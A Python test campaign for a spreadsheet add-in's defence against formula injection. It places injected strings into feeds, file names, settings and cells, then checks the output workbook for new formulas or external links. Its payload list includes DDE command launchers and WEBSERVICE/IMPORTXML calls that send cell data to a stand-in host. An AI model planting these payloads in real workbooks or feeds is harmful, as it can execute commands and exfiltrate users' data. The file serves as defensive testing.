"""Texts that a spreadsheet would take for formulas, put wherever a text from outside comes in.

They come as symbols, notes, headings and file names of feeds, names of scenarios, positions and settings. In what a job
writes, no new formula, link or external part may stand, and what begins like a formula is text: marked as such by an
apostrophe where it came from a feed, and kept as it stood where a person typed it as text.
"""

from __future__ import annotations

import csv
import functools
import io
import random
import re
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

from .campaign import Campaign, Tally
from .desks import made
from .forks import command, work

__all__ = ["CAMPAIGN"]

CALLS = (
    *("1+1", "cmd|'/c calc'!A0", 'HYPERLINK("http://evil.example","click")', 'DDE("cmd";"/C calc";"x")', "SUM(A1:A9)"),
    *(
        'IMPORTXML("http://evil.example")',
        'WEBSERVICE("http://evil.example/"&A1)',
        "[evil.xlsx]Sheet1!A1",
        "MSEXCEL|'\\..\\cmd'!_xlbgnm.A1",
    ),
)
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
BEGINS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝", "\u202e=", "==", "=-", "\ufeff=", '"=')

Inserted = Callable[[Path, Path, str], list[str]]
"""Puts a text into a book or beside it, and gives the words of the command that must not fall for it."""


def payload(chance: random.Random) -> str:
    return chance.choice(BEGINS) + chance.choice(CALLS)


def _prices(folder: Path, names: list[str], headings: list[str], called: str = "feed") -> Path:
    """A folder of closes, one file a contract, with headings of our own choosing."""
    source = folder / called
    source.mkdir()
    for name in names:
        with (source / f"{name}.csv").open("w", newline="") as file:
            rows = csv.writer(file)
            rows.writerow(headings)
            for hour in range(120):
                day, clock = divmod(hour, 24)
                rows.writerow([f"2024-01-{1 + day:02}T{clock:02}:00", 100 + hour % 7, *["x"] * (len(headings) - 2)])
    return source


def as_a_heading(folder: Path, desk: Path, text: str) -> list[str]:
    source = folder / "feed.csv"
    with source.open("w", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["time", "BTCUSDT", text])
        for hour in range(120):
            day, clock = divmod(hour, 24)
            rows.writerow([f"2024-01-{1 + day:02}T{clock:02}:00", 100 + hour % 7, 50 + hour % 5])
    return ["refresh", str(desk), "--from", str(source)]


def as_a_column(folder: Path, desk: Path, text: str) -> list[str]:
    return [
        "refresh",
        str(desk),
        "--from",
        str(_prices(folder, ["BTCUSDT_1h"], ["time", "close", text])),
        "--symbols",
        "BTCUSDT",
    ]


def as_a_file(folder: Path, desk: Path, text: str) -> list[str]:
    name = re.sub(r"[/\x00]", "_", text)[:80]
    return ["refresh", str(desk), "--from", str(_prices(folder, [f"{name}_1h", "BTCUSDT_1h"], ["time", "close"]))]


def as_a_symbol_asked_for(folder: Path, desk: Path, text: str) -> list[str]:
    return ["refresh", str(desk), "--from", str(_prices(folder, ["BTCUSDT_1h"], ["time", "close"])), "--symbols", text]


def as_a_position(folder: Path, desk: Path, text: str) -> list[str]:
    held = folder / "positions.csv"
    with held.open("w", newline="") as file:
        csv.writer(file).writerows([["symbol", "quantity", "entry"], [text, 1, 100], ["BTCUSDT", 1, 100]])
    source = _prices(folder, ["BTCUSDT_1h"], ["time", "close"])
    return ["refresh", str(desk), "--from", str(source), "--symbols", "BTCUSDT", "--positions", str(held)]


def as_a_setting(folder: Path, desk: Path, text: str) -> list[str]:
    return ["rebalance", str(desk), "--out", str(desk), "--set", f"Benchmark={text}"]


def as_a_source(folder: Path, desk: Path, text: str) -> list[str]:
    """The folder's own name stands in the cell DataSource and in the log of runs."""
    source = _prices(folder, ["BTCUSDT_1h"], ["time", "close"], re.sub(r"[/\x00]", "_", text)[:80])
    return ["refresh", str(desk), "--from", str(source), "--symbols", "BTCUSDT"]


def typed(table: str, column: str) -> Inserted:
    """Typed by a person into a cell of the book, as text."""

    def insert(folder: Path, desk: Path, text: str) -> list[str]:
        from xladdin.books.file_book import FileBook

        def type_in() -> None:
            with FileBook.open(desk) as book:
                block = book.table(table)
                rows = [list(row) for row in block.rows]
                rows[-1][block.index(column)] = text
                book.write_table(table, rows)
                book.commit()

        ended = work(type_in)
        assert ended.code == 0, ended.words
        return ["rebalance" if table == "Universe" else "stress", str(desk), "--out", str(desk)]

    insert.__name__ = f"typed_into_{table}_{column}"
    return insert


TYPED = (typed("Universe", "Symbol"), typed("Universe", "Contract"), typed("Scenarios", "Name"))
PLACES: tuple[Inserted, ...] = (
    *(as_a_heading, as_a_column, as_a_file, as_a_symbol_asked_for, as_a_position, as_a_setting, as_a_source, *TYPED),
)


@dataclass(frozen=True)
class Told:
    """What a book says: formulas, links and connections as part, place and text; and its inline and shared texts."""

    formulas: frozenset[tuple[str, str, str]]
    texts: frozenset[str]


@functools.lru_cache(maxsize=2)
def _told(raw: bytes) -> Told:
    """What the book of these bytes says; the one that most cases begin with is read once."""
    formulas, texts = set(), set()
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for part, data in parts.items():
        if part.startswith("xl/worksheets/sheet") or part.endswith("sharedStrings.xml"):
            root = ElementTree.fromstring(data)
            texts |= {"".join(each.itertext()) for name in ("is", "si") for each in root.iter(f"{MAIN}{name}")}
            for cell in root.iter(f"{MAIN}c"):
                formulas |= {(part, cell.get("r", ""), child.text or "") for child in cell if child.tag.endswith("}f")}
        if b'TargetMode="External"' in data or "externalLink" in part or "connections" in part:
            formulas.add((part, "", "external"))
        if b"<hyperlink" in data:
            formulas |= {(part, "", one.decode()) for one in re.findall(rb"<hyperlink[^>]*>", data)}
    return Told(frozenset(formulas), frozenset(texts))


def _run(cases: int, seed: int) -> Tally:
    tally = Tally()
    with tempfile.TemporaryDirectory() as place:
        begun = made(Path(place) / "begun.xlsx")
        for case in range(cases):
            chance = random.Random(f"{seed} {case}")
            text, insert = payload(chance), PLACES[case % len(PLACES)]
            folder = Path(place) / str(case)
            folder.mkdir()
            desk = folder / "desk.xlsx"
            desk.write_bytes(begun.read_bytes())
            words = insert(folder, desk, text)
            before = desk.read_bytes()
            known = _told(before)
            ended = command(*words)
            where = f"seed {seed}, case {case}, {insert.__name__} {text!r}"
            tally.case(ended.seconds, ended.megabytes)
            if ended.uncaught:
                tally.fault(where, ended.words[-300:])
            if "perpdesk: " in ended.words:
                tally.counts["refused"] += 1
                if desk.read_bytes() != before:
                    tally.fault(where, "refused and yet changed")
                continue
            tally.counts["written"] += 1
            says = _told(desk.read_bytes())
            if new := {each for each in says.formulas - known.formulas if _hostile(each[2])}:
                tally.fault(where, f"became a formula: {sorted(new)[:2]}")
            bare = [
                each
                for each in says.texts - known.texts
                if each.lstrip()[:1] in ("=", "+", "-", "@") and _hostile(each)
            ]
            if bare and insert not in TYPED:
                tally.fault(where, f"stands unmarked in a cell: {bare[0]!r}")
            tally.counts["marked as text"] += any(each.startswith("'") and _hostile(each) for each in says.texts)
    return tally


def _hostile(text: str) -> bool:
    return any(call in text for call in CALLS) or text == "external"


CAMPAIGN = Campaign(_run, 50, 500, "0 formulas, marked as text where it is kept")
